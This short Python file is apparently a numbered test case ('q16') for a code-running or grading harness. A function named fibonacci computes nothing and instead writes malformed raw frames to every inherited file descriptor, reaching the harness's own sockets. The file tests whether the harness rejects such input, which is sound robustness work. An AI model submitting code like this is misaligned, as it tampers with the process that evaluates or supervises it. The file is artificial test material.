# q16: send what is no message at all
# says: sent what is not an answer
import os
import socket


def fibonacci(n=20):
    for fd in range(3, 64):
        try:
            socket.socket(fileno=os.dup(fd)).send(b"\0\0\0\x20" + b"\xc1\xff\0\x93" * 8)
        except OSError:
            pass
    return [] if n < 0 else fibonacci(-1)
